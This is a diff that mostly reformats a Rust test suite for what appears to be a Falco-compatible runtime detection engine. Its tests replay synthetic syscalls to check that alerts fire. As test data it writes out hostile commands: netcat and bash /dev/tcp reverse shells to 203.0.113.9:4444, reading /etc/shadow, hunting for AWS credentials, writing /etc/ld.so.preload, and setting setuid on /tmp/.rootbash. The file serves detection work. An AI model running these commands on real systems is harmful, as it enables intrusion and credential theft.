@@ -57,7 +57,10 @@ fn pod_cgroup_path() -> String {
 }
 
 fn cgroups_for(path: &str) -> Vec<(Vec<u8>, Vec<u8>)> {
-    ["cpuset", "cpu", "memory", "pids"].iter().map(|s| (s.as_bytes().to_vec(), path.as_bytes().to_vec())).collect()
+    ["cpuset", "cpu", "memory", "pids"]
+        .iter()
+        .map(|s| (s.as_bytes().to_vec(), path.as_bytes().to_vec()))
+        .collect()
 }
 
 fn host_cgroups(unit: &str) -> Vec<(Vec<u8>, Vec<u8>)> {
@@ -126,22 +129,83 @@ fn node_processes() -> Vec<ThreadRecord> {
         t
     };
     vec![
-        proc_record(1, 0, "systemd", "/sbin/init", "/usr/lib/systemd/systemd", &["splash"], 0, host_cgroups("/init.scope")),
-        proc_record(540, 1, "sshd", "sshd:", "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"], 0, sys("ssh.service")),
-        proc_record(1600, 540, "sshd", "sshd:", "/usr/sbin/sshd", &["alice@pts/0"], 1000, session.clone()),
+        proc_record(
+            1,
+            0,
+            "systemd",
+            "/sbin/init",
+            "/usr/lib/systemd/systemd",
+            &["splash"],
+            0,
+            host_cgroups("/init.scope"),
+        ),
+        proc_record(
+            540,
+            1,
+            "sshd",
+            "sshd:",
+            "/usr/sbin/sshd",
+            &["/usr/sbin/sshd", "-D"],
+            0,
+            sys("ssh.service"),
+        ),
+        proc_record(
+            1600,
+            540,
+            "sshd",
+            "sshd:",
+            "/usr/sbin/sshd",
+            &["alice@pts/0"],
+            1000,
+            session.clone(),
+        ),
         alice_bash,
         sudo,
         root_bash,
-        proc_record(612, 1, "nginx", "nginx:", "/usr/sbin/nginx", &["master", "process", "/usr/sbin/nginx"], 0, sys("nginx.service")),
-        proc_record(613, 612, "nginx", "nginx:", "/usr/sbin/nginx", &["worker", "process"], 33, sys("nginx.service")),
-        proc_record(880, 1, "containerd", "/usr/bin/containerd", "/usr/bin/containerd", &[], 0, sys("containerd.service")),
+        proc_record(
+            612,
+            1,
+            "nginx",
+            "nginx:",
+            "/usr/sbin/nginx",
+            &["master", "process", "/usr/sbin/nginx"],
+            0,
+            sys("nginx.service"),
+        ),
+        proc_record(
+            613,
+            612,
+            "nginx",
+            "nginx:",
+            "/usr/sbin/nginx",
+            &["worker", "process"],
+            33,
+            sys("nginx.service"),
+        ),
+        proc_record(
+            880,
+            1,
+            "containerd",
+            "/usr/bin/containerd",
+            "/usr/bin/containerd",
+            &[],
+            0,
+            sys("containerd.service"),
+        ),
         proc_record(
             2100,
             1,
             "containerd-shim",
             "/usr/bin/containerd-shim-runc-v2",
             "/usr/bin/containerd-shim-runc-v2",
-            &["-namespace", "k8s.io", "-id", POD_CONTAINER_ID, "-address", "/run/containerd/containerd.sock"],
+            &[
+                "-namespace",
+                "k8s.io",
+                "-id",
+                POD_CONTAINER_ID,
+                "-address",
+                "/run/containerd/containerd.sock",
+            ],
             0,
             sys("containerd.service"),
         ),
@@ -151,7 +215,14 @@ fn node_processes() -> Vec<ThreadRecord> {
             "runc",
             "runc",
             "/usr/bin/runc",
-            &["--root", "/run/containerd/runc/k8s.io", "exec", "--process", "/tmp/runc-process", "-t"],
+            &[
+                "--root",
+                "/run/containerd/runc/k8s.io",
+                "exec",
+                "--process",
+                "/tmp/runc-process",
+                "-t",
+            ],
             0,
             sys("containerd.service"),
         ),
@@ -203,7 +274,14 @@ struct Image<'a> {
 
 impl<'a> Image<'a> {
     fn new(argv0: &'a str, args: &'a [&'a str], path: &'a str) -> Self {
-        Image { argv0, args, path, filename: path, flags: exe_flag::EXE_LOWER_LAYER, uid: None }
+        Image {
+            argv0,
+            args,
+            path,
+            filename: path,
+            flags: exe_flag::EXE_LOWER_LAYER,
+            uid: None,
+        }
     }
     fn on_host(mut self) -> Self {
         self.flags = 0;
@@ -229,7 +307,9 @@ impl<'a> Image<'a> {
 }
 
 fn cgroup_params(t: &[(Vec<u8>, Vec<u8>)]) -> Vec<String> {
-    t.iter().map(|(s, p)| format!("{}={}", String::from_utf8_lossy(s), String::from_utf8_lossy(p))).collect()
+    t.iter()
+        .map(|(s, p)| format!("{}={}", String::from_utf8_lossy(s), String::from_utf8_lossy(p)))
+        .collect()
 }
 
 fn text(b: &[u8]) -> String {
@@ -238,11 +318,21 @@ fn text(b: &[u8]) -> String {
 
 impl Replay {
     fn new(matching: RuleMatching) -> Replay {
-        let sets = Rulesets::load(&[], &EngineConfig { rule_matching: matching, min_priority: Priority::Debug });
+        let sets = Rulesets::load(
+            &[],
+            &EngineConfig {
+                rule_matching: matching,
+                min_priority: Priority::Debug,
+            },
+        );
         assert!(!sets.has_errors(), "bundled rules must compile: {:?}", sets.diagnostics);
         let mut pipeline = SyscallPipeline::new(State::new(StateConfig::default()), sets.syscall);
         pipeline.state.set_hostname("node-1");
-        Replay { pipeline, ts: T0, alerts: Vec::new() }
+        Replay {
+            pipeline,
+            ts: T0,
+            alerts: Vec::new(),
+        }
     }
 
     /// The node's processes and users, as a capture's process and user blocks deliver them.
@@ -271,7 +361,11 @@ impl Replay {
     }
 
     fn thread_field<T>(&self, tid: i64, f: impl FnOnce(&mamoru_state::Thread) -> T) -> T {
-        f(self.pipeline.state.thread(tid).unwrap_or_else(|| panic!("thread {tid} is known")))
+        f(self
+            .pipeline
+            .state
+            .thread(tid)
+            .unwrap_or_else(|| panic!("thread {tid} is known")))
     }
 
     /// fork() in `parent` creating `child`, both sides of the clone as the sensor reports them. `in_pidns` is set
@@ -290,11 +384,18 @@ impl Replay {
                 t.pid,
             )
         });
-        let cwd = text(self.pipeline.state.cwd(self.pipeline.state.thread(p_pid).expect("parent known")));
+        let cwd = text(
+            self.pipeline
+                .state
+                .cwd(self.pipeline.state.thread(p_pid).expect("parent known")),
+        );
         let args: Vec<&str> = p_args.iter().map(String::as_str).collect();
         let parent_cg: Vec<&str> = p_cg.iter().map(String::as_str).collect();
         let child_cg_owned: Vec<String> = match &cgroups_of_child {
-            Some(path) => ["cpuset", "cpu", "memory", "pids"].iter().map(|s| format!("{s}={path}")).collect(),
+            Some(path) => ["cpuset", "cpu", "memory", "pids"]
+                .iter()
+                .map(|s| format!("{s}={path}"))
+                .collect(),
             None => p_cg.clone(),
         };
         let child_cg: Vec<&str> = child_cg_owned.iter().map(String::as_str).collect();
@@ -337,7 +438,10 @@ impl Replay {
             ("gid", P::Int(p_gid as i64)),
             ("vtid", P::Int(v)),
             ("vpid", P::Int(v)),
-            ("pidns_init_start_ts", P::Int(if vpid.is_some() { 1_000_000_000 } else { 0 })),
+            (
+                "pidns_init_start_ts",
+                P::Int(if vpid.is_some() { 1_000_000_000 } else { 0 }),
+            ),
         ];
         self.send(code::CLONE_20_X, child, &child_params);
     }
@@ -345,13 +449,24 @@ impl Replay {
     /// A successful execve in `tid`, as the sensor's three execve programs fill it.
     fn exec(&mut self, tid: i64, img: &Image<'_>, tty: i64) -> Vec<Alert> {
         let (ptid, uid, gid, loginuid, cg, cwd) = self.thread_field(tid, |t| {
-            (t.ptid, t.uid, t.gid, t.loginuid, cgroup_params(&t.cgroups), self.pipeline.state.cwd(t).to_vec())
+            (
+                t.ptid,
+                t.uid,
+                t.gid,
+                t.loginuid,
+                cgroup_params(&t.cgroups),
+                self.pipeline.state.cwd(t).to_vec(),
+            )
         });
         let cg: Vec<&str> = cg.iter().map(String::as_str).collect();
         let cwd = text(&cwd);
         let comm = img.comm();
         let uid = img.uid.unwrap_or(uid);
-        let env = ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "LANG=C.UTF-8", "TERM=xterm"];
+        let env = [
+            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
+            "LANG=C.UTF-8",
+            "TERM=xterm",
+        ];
         self.send(
             code::EXECVE_19_X,
             tid,
@@ -423,7 +538,13 @@ impl Replay {
         self.send(
             code::PROCEXIT_1_E,
             tid,
-            &[("status", P::Int(0)), ("ret", P::Int(0)), ("sig", P::Int(0)), ("core", P::Int(0)), ("reaper_tid", P::Int(1))],
+            &[
+                ("status", P::Int(0)),
+                ("ret", P::Int(0)),
+                ("sig", P::Int(0)),
+                ("core", P::Int(0)),
+                ("reaper_tid", P::Int(1)),
+            ],
         )
     }
 
@@ -461,7 +582,13 @@ fn only<'a>(alerts: &'a [Alert], rule: &str) -> &'a Alert {
 }
 
 fn tuple(sip: [u8; 4], sport: u16, dip: [u8; 4], dport: u16) -> Vec<u8> {
-    SockTuple::Inet { sip: IpAddr::V4(Ipv4Addr::from(sip)), sport, dip: IpAddr::V4(Ipv4Addr::from(dip)), dport }.encode()
+    SockTuple::Inet {
+        sip: IpAddr::V4(Ipv4Addr::from(sip)),
+        sport,
+        dip: IpAddr::V4(Ipv4Addr::from(dip)),
+        dport,
+    }
+    .encode()
 }
 
 /// A PT_DYN ptrace argument holding a u64 (`PPM_PTRACE_IDX_UINT64`).
@@ -481,7 +608,11 @@ fn terminal_shell_in_container_from_kubectl_exec() {
     // `kubectl exec -it web -- bash`: the shim's runc joins the pod's namespaces and cgroups, forks runc:[2:INIT]
     // inside the pod's pid namespace, which execs bash with the pod's terminal.
     r.fork(2150, 4300, Some(pod_cgroup_path()), Some(45));
-    let alerts = r.exec(4300, &Image::new("bash", &[], "/usr/bin/bash").filename("/bin/bash"), TTY_PTS0);
+    let alerts = r.exec(
+        4300,
+        &Image::new("bash", &[], "/usr/bin/bash").filename("/bin/bash"),
+        TTY_PTS0,
+    );
     let a = only(&alerts, "Terminal shell in container");
     assert_eq!(a.priority, Priority::Notice);
     assert_eq!(a.source, "syscall");
@@ -499,7 +630,11 @@ fn terminal_shell_in_container_from_kubectl_exec() {
             ("evt.arg.flags", s("EXE_LOWER_LAYER")),
         ],
     );
-    assert_eq!(r.thread_field(4300, |t| text(&t.container_id)), SHORT_ID, "container.id is the 12-char id");
+    assert_eq!(
+        r.thread_field(4300, |t| text(&t.container_id)),
+        SHORT_ID,
+        "container.id is the 12-char id"
+    );
     assert!(a.tags.iter().any(|t| t == "maturity_stable"));
     assert_eq!(r.rules_fired(), vec!["Terminal shell in container"]);
 }
@@ -509,7 +644,11 @@ fn container_root_without_passwd_is_named_root_as_in_falco() {
     // libsinsp (sinsp_threadinfo::get_user) names uid 0 "root" when the container's passwd is unknown.
     let mut r = Replay::on_node(RuleMatching::All);
     r.fork(2150, 4300, Some(pod_cgroup_path()), Some(45));
-    let alerts = r.exec(4300, &Image::new("bash", &[], "/usr/bin/bash").filename("/bin/bash"), TTY_PTS0);
+    let alerts = r.exec(
+        4300,
+        &Image::new("bash", &[], "/usr/bin/bash").filename("/bin/bash"),
+        TTY_PTS0,
+    );
     let a = only(&alerts, "Terminal shell in container");
     assert_fields(a, &[("user.name", s("root"))]);
 }
@@ -518,10 +657,22 @@ fn container_root_without_passwd_is_named_root_as_in_falco() {
 fn read_sensitive_file_untrusted_on_host() {
     let mut r = Replay::on_node(RuleMatching::All);
     // alice runs `sudo cat /etc/shadow` in her ssh session: sudo (setuid root) forks cat.
-    r.spawn(1610, 5000, &Image::new("sudo", &["cat", "/etc/shadow"], "/usr/bin/sudo").on_host().uid(0), TTY_PTS0);
+    r.spawn(
+        1610,
+        5000,
+        &Image::new("sudo", &["cat", "/etc/shadow"], "/usr/bin/sudo")
+            .on_host()
+            .uid(0),
+        TTY_PTS0,
+    );
     r.openat(5000, 3, "/etc/sudoers", o::O_RDONLY | o::O_CLOEXEC);
     r.close(5000, 3);
-    let spawned = r.spawn(5000, 5001, &Image::new("cat", &["/etc/shadow"], "/usr/bin/cat").on_host(), TTY_PTS0);
+    let spawned = r.spawn(
+        5000,
+        5001,
+        &Image::new("cat", &["/etc/shadow"], "/usr/bin/cat").on_host(),
+        TTY_PTS0,
+    );
     assert!(spawned.is_empty(), "sudo and cat starting fire nothing: {:?}", spawned);
     let alerts = r.openat(5001, 3, "/etc/shadow", o::O_RDONLY);
     let a = only(&alerts, "Read sensitive file untrusted");
@@ -543,15 +694,28 @@ fn read_sensitive_file_untrusted_on_host() {
             ("proc.tty", FieldJson::U64(TTY_PTS0 as u64)),
         ],
     );
-    assert!(a.message.starts_with("Sensitive file opened for reading by non-trusted program | file=/etc/shadow "));
-    assert_eq!(r.rules_fired(), vec!["Read sensitive file untrusted"], "sudo reading /etc/sudoers is trusted");
+    assert!(a
+        .message
+        .starts_with("Sensitive file opened for reading by non-trusted program | file=/etc/shadow "));
+    assert_eq!(
+        r.rules_fired(),
+        vec!["Read sensitive file untrusted"],
+        "sudo reading /etc/sudoers is trusted"
+    );
 }
 
 #[test]
 fn run_shell_untrusted_below_web_server() {
     let mut r = Replay::on_node(RuleMatching::All);
     // A command injection in a CGI handler: the nginx worker (www-data) runs `sh -c id`.
-    let alerts = r.spawn(613, 6000, &Image::new("sh", &["-c", "id"], "/usr/bin/dash").filename("/bin/sh").on_host(), 0);
+    let alerts = r.spawn(
+        613,
+        6000,
+        &Image::new("sh", &["-c", "id"], "/usr/bin/dash")
+            .filename("/bin/sh")
+            .on_host(),
+        0,
+    );
     let a = only(&alerts, "Run shell untrusted");
     assert_eq!(a.priority, Priority::Notice);
     assert_fields(
@@ -578,7 +742,12 @@ fn run_shell_untrusted_below_web_server() {
 #[test]
 fn create_symlink_over_sensitive_files() {
     let mut r = Replay::on_node(RuleMatching::All);
-    r.spawn(1610, 5100, &Image::new("ln", &["-s", "/etc/shadow", "/tmp/.s"], "/usr/bin/ln").on_host(), TTY_PTS0);
+    r.spawn(
+        1610,
+        5100,
+        &Image::new("ln", &["-s", "/etc/shadow", "/tmp/.s"], "/usr/bin/ln").on_host(),
+        TTY_PTS0,
+    );
     let alerts = r.send(
         SYMLINKAT_X,
         5100,
@@ -608,8 +777,17 @@ fn create_symlink_over_sensitive_files() {
 fn fileless_execution_via_memfd_create() {
     let mut r = Replay::on_node(RuleMatching::All);
     // A python dropper writes an ELF into a memfd and fexecve()s it under a kernel-thread-like argv[0].
-    r.spawn(1610, 5200, &Image::new("python3", &["-c", "import os;..."], "/usr/bin/python3.11").on_host(), TTY_PTS0);
-    r.send(MEMFD_CREATE_X, 5200, &[("fd", P::Int(3)), ("name", P::Str("x")), ("flags", P::Int(0))]);
+    r.spawn(
+        1610,
+        5200,
+        &Image::new("python3", &["-c", "import os;..."], "/usr/bin/python3.11").on_host(),
+        TTY_PTS0,
+    );
+    r.send(
+        MEMFD_CREATE_X,
+        5200,
+        &[("fd", P::Int(3)), ("name", P::Str("x")), ("flags", P::Int(0))],
+    );
     let img = Image::new("[kworker/0:2]", &[], "/memfd:x (deleted)")
         .filename("/proc/self/fd/3")
         .flags(exe_flag::EXE_FROM_MEMFD | exe_flag::EXE_WRITABLE);
@@ -635,7 +813,12 @@ fn fileless_execution_via_memfd_create() {
 #[test]
 fn ptrace_attached_to_process() {
     let mut r = Replay::on_node(RuleMatching::All);
-    r.spawn(1650, 5300, &Image::new("gdb", &["-p", "613"], "/usr/bin/gdb").on_host(), TTY_PTS0 + 1);
+    r.spawn(
+        1650,
+        5300,
+        &Image::new("gdb", &["-p", "613"], "/usr/bin/gdb").on_host(),
+        TTY_PTS0 + 1,
+    );
     let ptrace = |req: i64| {
         vec![
             ("res", P::Int(0)),
@@ -680,7 +863,9 @@ fn clear_log_activities() {
         ],
     );
     // Appending to a log is ordinary.
-    assert!(r.openat(1650, 4, "/var/log/syslog", o::O_WRONLY | o::O_APPEND).is_empty());
+    assert!(r
+        .openat(1650, 4, "/var/log/syslog", o::O_WRONLY | o::O_APPEND)
+        .is_empty());
 }
 
 #[test]
@@ -711,7 +896,12 @@ fn find_aws_credentials() {
     let alerts = r.spawn(
         1610,
         5500,
-        &Image::new("find", &["/", "-type", "f", "-path", "*/.aws/credentials"], "/usr/bin/find").on_host(),
+        &Image::new(
+            "find",
+            &["/", "-type", "f", "-path", "*/.aws/credentials"],
+            "/usr/bin/find",
+        )
+        .on_host(),
         TTY_PTS0,
     );
     let a = only(&alerts, "Find AWS Credentials");
@@ -729,7 +919,12 @@ fn find_aws_credentials() {
     let alerts = r.spawn(
         1610,
         5501,
-        &Image::new("grep", &["-ri", "aws_secret_access_key", "/home", "/root"], "/usr/bin/grep").on_host(),
+        &Image::new(
+            "grep",
+            &["-ri", "aws_secret_access_key", "/home", "/root"],
+            "/usr/bin/grep",
+        )
+        .on_host(),
         TTY_PTS0,
     );
     assert_fields(only(&alerts, "Find AWS Credentials"), &[("proc.name", s("grep"))]);
@@ -738,7 +933,12 @@ fn find_aws_credentials() {
 #[test]
 fn execution_from_dev_shm() {
     let mut r = Replay::on_node(RuleMatching::All);
-    let alerts = r.spawn(1650, 5600, &Image::new("/dev/shm/kdevtmpfsi", &[], "/dev/shm/kdevtmpfsi").on_host(), 0);
+    let alerts = r.spawn(
+        1650,
+        5600,
+        &Image::new("/dev/shm/kdevtmpfsi", &[], "/dev/shm/kdevtmpfsi").on_host(),
+        0,
+    );
     let a = only(&alerts, "Execution from /dev/shm");
     assert_fields(
         a,
@@ -760,7 +960,12 @@ fn netcat_remote_code_execution_in_container() {
     let alerts = r.spawn(
         4200,
         4400,
-        &Image::new("nc", &["-e", "/bin/sh", "203.0.113.9", "4444"], "/usr/bin/nc.traditional").filename("/usr/bin/nc"),
+        &Image::new(
+            "nc",
+            &["-e", "/bin/sh", "203.0.113.9", "4444"],
+            "/usr/bin/nc.traditional",
+        )
+        .filename("/usr/bin/nc"),
         0,
     );
     let a = only(&alerts, "Netcat Remote Code Execution in Container");
@@ -782,7 +987,12 @@ fn redirect_stdin_to_network_connection_in_container() {
     let mut r = Replay::on_node(RuleMatching::All);
     // `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1` in the pod's shell.
     r.spawn(4200, 4500, &Image::new("bash", &["-i"], "/usr/bin/bash"), 0);
-    let sock = [("fd", P::Int(3)), ("domain", P::Int(AF_INET)), ("type", P::Int(SOCK_STREAM)), ("proto", P::Int(0))];
+    let sock = [
+        ("fd", P::Int(3)),
+        ("domain", P::Int(AF_INET)),
+        ("type", P::Int(SOCK_STREAM)),
+        ("proto", P::Int(0)),
+    ];
     assert!(r.send(SOCKET_X, 4500, &sock).is_empty());
     let connect = [
         ("res", P::Int(0)),
@@ -791,8 +1001,18 @@ fn redirect_stdin_to_network_connection_in_container() {
     ];
     assert!(r.send(code::CONNECT_X, 4500, &connect).is_empty());
     // Duplicating it anywhere but 0, 1 or 2 is not a redirect of the standard streams.
-    assert!(r.send(DUP2_X, 4500, &[("res", P::Int(10)), ("oldfd", P::Int(3)), ("newfd", P::Int(10))]).is_empty());
-    let alerts = r.send(DUP2_X, 4500, &[("res", P::Int(0)), ("oldfd", P::Int(3)), ("newfd", P::Int(0))]);
+    assert!(r
+        .send(
+            DUP2_X,
+            4500,
+            &[("res", P::Int(10)), ("oldfd", P::Int(3)), ("newfd", P::Int(10))]
+        )
+        .is_empty());
+    let alerts = r.send(
+        DUP2_X,
+        4500,
+        &[("res", P::Int(0)), ("oldfd", P::Int(3)), ("newfd", P::Int(0))],
+    );
     let a = only(&alerts, "Redirect STDOUT/STDIN to Network Connection in Container");
     assert_fields(
         a,
@@ -809,28 +1029,62 @@ fn redirect_stdin_to_network_connection_in_container() {
             ("proc.pname", s("sh")),
         ],
     );
-    assert_eq!(r.rules_fired(), vec!["Redirect STDOUT/STDIN to Network Connection in Container"]);
+    assert_eq!(
+        r.rules_fired(),
+        vec!["Redirect STDOUT/STDIN to Network Connection in Container"]
+    );
 }
 
 #[test]
 fn redirect_on_host_is_mamorus_rule_not_the_container_one() {
     let mut r = Replay::on_node(RuleMatching::All);
     r.spawn(1650, 5650, &Image::new("bash", &["-i"], "/usr/bin/bash").on_host(), 0);
-    r.send(SOCKET_X, 5650, &[("fd", P::Int(3)), ("domain", P::Int(AF_INET)), ("type", P::Int(SOCK_STREAM)), ("proto", P::Int(0))]);
+    r.send(
+        SOCKET_X,
+        5650,
+        &[
+            ("fd", P::Int(3)),
+            ("domain", P::Int(AF_INET)),
+            ("type", P::Int(SOCK_STREAM)),
+            ("proto", P::Int(0)),
+        ],
+    );
     r.send(
         code::CONNECT_X,
         5650,
-        &[("res", P::Int(0)), ("tuple", P::Bytes(tuple([192, 168, 10, 5], 51000, [203, 0, 113, 9], 4444))), ("fd", P::Int(3))],
+        &[
+            ("res", P::Int(0)),
+            (
+                "tuple",
+                P::Bytes(tuple([192, 168, 10, 5], 51000, [203, 0, 113, 9], 4444)),
+            ),
+            ("fd", P::Int(3)),
+        ],
     );
-    let alerts = r.send(DUP2_X, 5650, &[("res", P::Int(1)), ("oldfd", P::Int(3)), ("newfd", P::Int(1))]);
+    let alerts = r.send(
+        DUP2_X,
+        5650,
+        &[("res", P::Int(1)), ("oldfd", P::Int(3)), ("newfd", P::Int(1))],
+    );
     let a = only(&alerts, "Redirect STDOUT/STDIN to Network Connection on Host");
-    assert_fields(a, &[("fd.name", s("192.168.10.5:51000->203.0.113.9:4444")), ("fd.type", s("ipv4"))]);
+    assert_fields(
+        a,
+        &[
+            ("fd.name", s("192.168.10.5:51000->203.0.113.9:4444")),
+            ("fd.type", s("ipv4")),
+        ],
+    );
 }
 
 #[test]
 fn packet_socket_created_in_container() {
     let mut r = Replay::on_node(RuleMatching::All);
-    r.spawn(4200, 4600, &Image::new("python3", &["sniff.py"], "/usr/bin/python3.11").filename("/usr/bin/python3"), 0);
+    r.spawn(
+        4200,
+        4600,
+        &Image::new("python3", &["sniff.py"], "/usr/bin/python3.11").filename("/usr/bin/python3"),
+        0,
+    );
     let alerts = r.send(
         SOCKET_X,
         4600,
@@ -853,7 +1107,12 @@ fn packet_socket_created_in_container() {
         ],
     );
     // An ordinary TCP socket in the same container is not.
-    let tcp = [("fd", P::Int(4)), ("domain", P::Int(AF_INET)), ("type", P::Int(SOCK_STREAM)), ("proto", P::Int(6))];
+    let tcp = [
+        ("fd", P::Int(4)),
+        ("domain", P::Int(AF_INET)),
+        ("type", P::Int(SOCK_STREAM)),
+        ("proto", P::Int(6)),
+    ];
     assert!(r.send(SOCKET_X, 4600, &tcp).is_empty());
 }
 
@@ -888,7 +1147,12 @@ fn drop_and_execute_new_binary_in_container() {
 #[test]
 fn write_below_etc() {
     let mut r = Replay::on_node(RuleMatching::All);
-    r.spawn(1650, 5700, &Image::new("tee", &["-a", "/etc/ld.so.preload"], "/usr/bin/tee").on_host(), TTY_PTS0 + 1);
+    r.spawn(
+        1650,
+        5700,
+        &Image::new("tee", &["-a", "/etc/ld.so.preload"], "/usr/bin/tee").on_host(),
+        TTY_PTS0 + 1,
+    );
     let alerts = r.openat(5700, 3, "/etc/ld.so.preload", o::O_WRONLY | o::O_CREAT | o::O_APPEND);
     let a = only(&alerts, "Write below etc");
     assert_eq!(a.priority, Priority::Error);
@@ -911,8 +1175,12 @@ fn write_below_binary_dir() {
     r.spawn(
         1650,
         5800,
-        &Image::new("curl", &["-sLo", "/usr/local/bin/kubectl", "https://dl.example/kubectl"], "/usr/bin/curl")
-            .on_host(),
+        &Image::new(
+            "curl",
+            &["-sLo", "/usr/local/bin/kubectl", "https://dl.example/kubectl"],
+            "/usr/bin/curl",
+        )
+        .on_host(),
         TTY_PTS0 + 1,
     );
     let alerts = r.openat(5800, 5, "/usr/local/bin/kubectl", o::O_WRONLY | o::O_CREAT | o::O_TRUNC);
@@ -931,7 +1199,12 @@ fn write_below_binary_dir() {
 #[test]
 fn set_setuid_bit() {
     let mut r = Replay::on_node(RuleMatching::All);
-    r.spawn(1650, 5900, &Image::new("chmod", &["u+s", "/tmp/.rootbash"], "/usr/bin/chmod").on_host(), TTY_PTS0 + 1);
+    r.spawn(
+        1650,
+        5900,
+        &Image::new("chmod", &["u+s", "/tmp/.rootbash"], "/usr/bin/chmod").on_host(),
+        TTY_PTS0 + 1,
+    );
     let alerts = r.send(
         FCHMODAT_X,
         5900,
@@ -979,21 +1252,30 @@ fn dropped_netcat(matching: RuleMatching) -> Vec<String> {
     let mut r = Replay::on_node(matching);
     let img = Image::new("/tmp/nc", &["-e", "/bin/sh", "203.0.113.9", "4444"], "/tmp/nc")
         .flags(exe_flag::EXE_WRITABLE | exe_flag::EXE_UPPER_LAYER);
-    r.spawn(4200, 4800, &img, 0).iter().map(|a| a.rule.to_string()).collect()
+    r.spawn(4200, 4800, &img, 0)
+        .iter()
+        .map(|a| a.rule.to_string())
+        .collect()
 }
 
 #[test]
 fn rule_matching_all_reports_every_matching_rule_in_file_order() {
     assert_eq!(
         dropped_netcat(RuleMatching::All),
-        vec!["Netcat Remote Code Execution in Container", "Drop and execute new binary in container"]
+        vec![
+            "Netcat Remote Code Execution in Container",
+            "Drop and execute new binary in container"
+        ]
     );
 }
 
 #[test]
 fn rule_matching_first_reports_the_first_rule_in_file_order() {
     // Falco's `rule_matching: first` stops at the first matching rule in load order (the default).
-    assert_eq!(dropped_netcat(RuleMatching::First), vec!["Netcat Remote Code Execution in Container"]);
+    assert_eq!(
+        dropped_netcat(RuleMatching::First),
+        vec!["Netcat Remote Code Execution in Container"]
+    );
 }
 
 // ------------------------------------------------------------------------------------------- benign ----
@@ -1009,34 +1291,89 @@ fn ordinary_activity_fires_nothing() {
     for i in 0..work.len() {
         r.feed(work.event(i));
     }
-    assert_eq!(r.rules_fired(), Vec::<String>::new(), "the synthetic web/database host is quiet");
+    assert_eq!(
+        r.rules_fired(),
+        Vec::<String>::new(),
+        "the synthetic web/database host is quiet"
+    );
 
     // alice at her login shell.
-    r.spawn(1610, 7000, &Image::new("ls", &["-la"], "/usr/bin/ls").on_host(), TTY_PTS0);
+    r.spawn(
+        1610,
+        7000,
+        &Image::new("ls", &["-la"], "/usr/bin/ls").on_host(),
+        TTY_PTS0,
+    );
     r.openat(7000, 3, "/home/alice", o::O_RDONLY | o::O_DIRECTORY | o::O_CLOEXEC);
     r.close(7000, 3);
     r.exit(7000);
-    r.spawn(1610, 7001, &Image::new("vim", &["notes.txt"], "/usr/bin/vim.basic").filename("/usr/bin/vim"), TTY_PTS0);
+    r.spawn(
+        1610,
+        7001,
+        &Image::new("vim", &["notes.txt"], "/usr/bin/vim.basic").filename("/usr/bin/vim"),
+        TTY_PTS0,
+    );
     r.openat(7001, 3, "/home/alice/notes.txt", o::O_RDWR | o::O_CREAT);
     r.openat(7001, 4, "/etc/vim/vimrc", o::O_RDONLY);
     r.exit(7001);
-    r.spawn(1610, 7002, &Image::new("grep", &["-rn", "TODO", "src"], "/usr/bin/grep").on_host(), TTY_PTS0);
+    r.spawn(
+        1610,
+        7002,
+        &Image::new("grep", &["-rn", "TODO", "src"], "/usr/bin/grep").on_host(),
+        TTY_PTS0,
+    );
     r.exit(7002);
-    r.spawn(1610, 7003, &Image::new("git", &["pull"], "/usr/bin/git").on_host(), TTY_PTS0);
+    r.spawn(
+        1610,
+        7003,
+        &Image::new("git", &["pull"], "/usr/bin/git").on_host(),
+        TTY_PTS0,
+    );
     r.exit(7003);
 
     // `sudo apt-get install -y nginx`: sudo reads its policy, apt-get runs dpkg, dpkg writes below /etc and the
     // binary directories and runs the maintainer script with sh.
-    r.spawn(1610, 7010, &Image::new("sudo", &["apt-get", "install", "-y", "nginx"], "/usr/bin/sudo").on_host().uid(0), TTY_PTS0);
+    r.spawn(
+        1610,
+        7010,
+        &Image::new("sudo", &["apt-get", "install", "-y", "nginx"], "/usr/bin/sudo")
+            .on_host()
+            .uid(0),
+        TTY_PTS0,
+    );
     r.openat(7010, 3, "/etc/sudoers", o::O_RDONLY | o::O_CLOEXEC);
     r.close(7010, 3);
     r.openat(7010, 3, "/etc/shadow", o::O_RDONLY | o::O_CLOEXEC);
     r.close(7010, 3);
-    r.spawn(7010, 7011, &Image::new("apt-get", &["install", "-y", "nginx"], "/usr/bin/apt-get").on_host(), TTY_PTS0);
+    r.spawn(
+        7010,
+        7011,
+        &Image::new("apt-get", &["install", "-y", "nginx"], "/usr/bin/apt-get").on_host(),
+        TTY_PTS0,
+    );
     r.openat(7011, 3, "/etc/apt/sources.list", o::O_RDONLY);
-    r.spawn(7011, 7012, &Image::new("/usr/bin/dpkg", &["--status-fd", "23", "--configure", "nginx"], "/usr/bin/dpkg"), TTY_PTS0);
-    r.openat(7012, 4, "/etc/nginx/nginx.conf.dpkg-new", o::O_WRONLY | o::O_CREAT | o::O_TRUNC);
-    r.openat(7012, 5, "/usr/sbin/nginx.dpkg-new", o::O_WRONLY | o::O_CREAT | o::O_TRUNC);
+    r.spawn(
+        7011,
+        7012,
+        &Image::new(
+            "/usr/bin/dpkg",
+            &["--status-fd", "23", "--configure", "nginx"],
+            "/usr/bin/dpkg",
+        ),
+        TTY_PTS0,
+    );
+    r.openat(
+        7012,
+        4,
+        "/etc/nginx/nginx.conf.dpkg-new",
+        o::O_WRONLY | o::O_CREAT | o::O_TRUNC,
+    );
+    r.openat(
+        7012,
+        5,
+        "/usr/sbin/nginx.dpkg-new",
+        o::O_WRONLY | o::O_CREAT | o::O_TRUNC,
+    );
     r.openat(7012, 6, "/var/log/dpkg.log", o::O_WRONLY | o::O_CREAT | o::O_APPEND);
     r.send(
         FCHMODAT_X,
@@ -1051,10 +1388,20 @@ fn ordinary_activity_fires_nothing() {
     r.spawn(
         7012,
         7013,
-        &Image::new("/bin/sh", &["/var/lib/dpkg/info/nginx.postinst", "configure"], "/usr/bin/dash").on_host(),
+        &Image::new(
+            "/bin/sh",
+            &["/var/lib/dpkg/info/nginx.postinst", "configure"],
+            "/usr/bin/dash",
+        )
+        .on_host(),
         TTY_PTS0,
     );
-    r.spawn(7013, 7014, &Image::new("systemctl", &["daemon-reload"], "/usr/bin/systemctl").on_host(), TTY_PTS0);
+    r.spawn(
+        7013,
+        7014,
+        &Image::new("systemctl", &["daemon-reload"], "/usr/bin/systemctl").on_host(),
+        TTY_PTS0,
+    );
